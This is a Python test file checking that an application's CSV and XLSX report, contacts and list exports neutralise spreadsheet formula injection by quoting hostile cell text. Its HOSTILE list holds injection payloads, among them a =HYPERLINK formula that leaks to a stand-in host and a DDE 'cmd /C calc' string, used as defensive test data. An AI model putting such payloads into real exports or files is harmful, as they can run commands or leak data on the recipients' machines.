"""No spreadsheet the project writes turns a text into a formula (OWASP's CSV-injection rule).

A closure label ``=HYPERLINK(...)`` (and labels starting with ``+``, ``-``, ``@``, a tab, a carriage
return) goes through the report's CSV and XLSX (built here, by the command line and by the web
download), and hostile values through the writers the contacts export and the list exports use. Each
comes back as text with a leading ``'``; no XLSX cell is a formula; numbers stay numbers.
"""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from tests.reports.data import YEAR, build_year
from tests.reports.sheets import read_csv
from tremplin.core.app import App
from tremplin.core.models import ClosurePeriod
from tremplin.core.reports.build import annual_report
from tremplin.core.reports.export import (
    neutralise,
    write_contacts_csv,
    write_contacts_xlsx,
    write_table_csv,
    write_table_xlsx,
)
from tremplin.core.reports.render import render_bytes

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak","Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab",
    "\rReturn",
]


def formulas_in(xlsx: bytes) -> list[str]:
    """The sheets of the workbook holding a formula element (there must be none)."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        sheets = [name for name in z.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets if b"<f>" in z.read(name) or b"<f " in z.read(name)]


def xlsx_strings(xlsx: bytes) -> list[object]:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(xlsx))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                # A carriage return is stored as Excel's escape, which Excel reads back (openpyxl does not).
                values.append(cell.value.replace("_x000D_", "\r") if isinstance(cell.value, str) else cell.value)
    return values


def test_neutralise_follows_the_owasp_rule() -> None:
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    for text in ("Lockdown", "Fermeture = travaux", "5 €", "", "'=already quoted"):
        assert neutralise(text) == text


@pytest.fixture
def hostile_closures(app: App) -> App:
    year = build_year(app)
    with app.transaction() as session:
        centre_id = year.centre_ids["bxl"]
        for i, label in enumerate(HOSTILE):
            session.add(
                ClosurePeriod(
                    centre_id=centre_id,
                    starts_on=date(YEAR, 8, 1 + 2 * i),
                    ends_on=date(YEAR, 8, 2 + 2 * i),
                    scope="all",
                    label=label,
                )
            )
        session.add(
            ClosurePeriod(
                centre_id=centre_id,
                starts_on=date(YEAR, 9, 1),
                ends_on=date(YEAR, 9, 2),
                scope="all",
                label="<r><t>rich?</t></r>",
            )
        )
    return app


@pytest.mark.parametrize("language", ["fr", "en"])
def test_a_hostile_closure_label_stays_text_in_the_report_spreadsheets(hostile_closures: App, language: str) -> None:
    app = hostile_closures
    with app.session() as session:
        report = annual_report(app, session, YEAR, language=language)
    cells = [c for row in read_csv(render_bytes(report, "csv"), language) for c in row]
    xlsx = render_bytes(report, "xlsx")
    values = xlsx_strings(xlsx)
    assert not formulas_in(xlsx)
    for text in HOSTILE:
        assert "'" + text in cells, text
        assert "'" + text in values, text
        assert text not in cells and text not in values  # never as it was typed
    assert any(isinstance(v, int) and not isinstance(v, bool) for v in values), "counts stay numbers"
    assert "<r><t>rich?</t></r>" in values, "a text that looks like XML stays text"


def test_the_command_line_and_the_web_download_write_the_same_safe_cells(
    hostile_closures: App, db_url: str, tmp_path: Path
) -> None:
    from click.testing import CliRunner

    from tremplin.core.cli import cli

    out = tmp_path / "annual.xlsx"
    result = CliRunner().invoke(
        cli, ["--database-url", db_url, "report", "annual", "--year", str(YEAR), "--format", "xlsx", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    values = xlsx_strings(out.read_bytes())
    assert all("'" + text in values for text in HOSTILE) and not formulas_in(out.read_bytes())
    out = tmp_path / "annual.csv"
    result = CliRunner().invoke(
        cli, ["--database-url", db_url, "report", "annual", "--year", str(YEAR), "--format", "csv", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    cells = [c for row in read_csv(out.read_bytes(), "fr") for c in row]
    assert all("'" + text in cells for text in HOSTILE)


def test_the_web_download_is_safe_too(hostile_closures: App, centre: int) -> None:
    from tests.web.conftest import Web

    web = Web(hostile_closures, centre)
    web.add_account("lead", ["programme_lead"])
    try:
        lead = web.client("lead")
        for fmt in ("xlsx", "csv"):
            r = lead.get("/reports/download", params={"kind": "annual", "year": YEAR, "format": fmt, "language": "nl"})
            assert r.status_code == 200
            if fmt == "xlsx":
                values = xlsx_strings(r.content)
                assert not formulas_in(r.content)
            else:
                values = [c for row in read_csv(r.content, "nl") for c in row]
            assert all("'" + text in values for text in HOSTILE), fmt
    finally:
        web.close()


def test_the_contacts_export_and_the_list_writers_neutralise_text(tmp_path: Path) -> None:
    from tremplin.core.reports.export import CONTACT_COLUMNS

    moment = datetime(2025, 3, 7, 13, 5, tzinfo=UTC)
    row = (
        1,
        "bxl",
        HOSTILE[0],
        date(2025, 3, 7),
        moment,
        "general",
        "reception",
        "walk_in",
        HOSTILE[3],
        "fr",
        -3,
        "woman",
        "unknown",
        "unknown",
        "unknown",
        HOSTILE[1],
    )
    assert len(row) == len(CONTACT_COLUMNS)
    text = io.StringIO()
    assert write_contacts_csv(iter([row]), text) == 1
    import csv

    (header, line) = list(csv.reader(io.StringIO(text.getvalue())))
    assert header == list(CONTACT_COLUMNS)
    assert (
        line[2] == "'" + HOSTILE[0]
        and line[8] == "'" + HOSTILE[3]
        and line[15] == "'" + HOSTILE[1]
        and line[10] == "-3"
    )
    out = io.BytesIO()
    assert write_contacts_xlsx(iter([row]), out) == 1
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    cells = [c for c in next(ws.iter_rows(min_row=2))]
    assert cells[2].value == "'" + HOSTILE[0] and cells[2].data_type == "s"
    assert cells[10].value == -3 and cells[3].value == datetime(2025, 3, 7)
    assert cells[4].value == datetime(2025, 3, 7, 13, 5)
    assert ws.freeze_panes == "A2" and not formulas_in(out.getvalue())
    # The writers the list exports use: one header, any rows, the same rule.
    columns = ["Code", "Partenaire", "Nombre"]
    rows = [["K7P-4X2-M9Q", text_, n] for n, text_ in enumerate(HOSTILE)]
    csv_out = io.StringIO()
    write_table_csv(columns, rows, csv_out, "nl")
    back = read_csv(csv_out.getvalue().encode("utf-8"), "nl")
    assert back[0] == columns and [r[1] for r in back[1:]] == ["'" + t for t in HOSTILE]
    xlsx_out = io.BytesIO()
    assert write_table_xlsx(columns, rows, xlsx_out, title="Liste: partenaires") == len(HOSTILE)
    wb = load_workbook(io.BytesIO(xlsx_out.getvalue()))
    assert wb.worksheets[0].title == "Liste - partenaires"
    assert [r[1] for r in wb.worksheets[0].iter_rows(min_row=2, values_only=True)] == [
        "'" + t.replace("\r", "_x000D_") for t in HOSTILE
    ]


def test_rows_streamed_as_text_read_back_like_the_cells_xlsxwriter_writes(monkeypatch: pytest.MonkeyPatch) -> None:
    """A large export writes its rows as XML text (``write_plain_rows``), not through xlsxwriter's cells:
    every kind of value reads back the same, with the same type and number format, as the cell xlsxwriter
    writes for it in a workbook kept in memory."""
    from openpyxl import load_workbook

    from tremplin.core.reports.export import XlsxBook, _streaming_sheet_class

    streaming = _streaming_sheet_class()
    plain_rows = streaming.write_plain_rows
    streamed_rows: list[int] = []

    def spy(self: object, first: int, *args: object) -> int:
        streamed_rows.append(plain_rows(self, first, *args))
        return streamed_rows[-1]

    monkeypatch.setattr(streaming, "write_plain_rows", spy)
    moment = datetime(2025, 3, 30, 1, 30, 15, tzinfo=UTC)
    rows = [
        (1, "bxl", "", None, date(2025, 3, 7), moment, 2.5, -3, True, False, 10**17),
        (2, '<b>gras</b> & "quotes"', " leading space", "trailing ", "bell\x07", "é ü ї 🙂", HOSTILE[0]),
        (3, HOSTILE[1], HOSTILE[2], HOSTILE[3], HOSTILE[4], "x" * 40_000, "line\nbreak", datetime(2025, 1, 1, 0, 0)),
    ]

    def written(constant_memory: bool) -> tuple[bytes, list[list[tuple[object, str, str]]]]:
        out = io.BytesIO()
        book = XlsxBook(out, constant_memory=constant_memory)
        sheet = book.sheet("Rows")
        sheet.append(["a", "b", "c"], style="header")
        assert sheet.extend(iter(rows)) == len(rows)
        sheet.append(["after", 4])
        book.close()
        ws = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
        cells = [[(c.value, c.data_type, c.number_format) for c in r] for r in ws.iter_rows()]
        return out.getvalue(), cells

    streamed, streamed_cells = written(constant_memory=True)
    _, kept_cells = written(constant_memory=False)
    assert streamed_rows == [len(rows)], "the rows were written as text"
    assert streamed_cells == kept_cells
    assert streamed_cells[1][0][0] == 1 and streamed_cells[2][6][0] == "'" + HOSTILE[0]
    assert len(streamed_cells[3][5][0]) == 32_767 and streamed_cells[-1][:2] == [
        ("after", "s", "General"),
        (4, "n", "General"),
    ]
    assert not formulas_in(streamed)
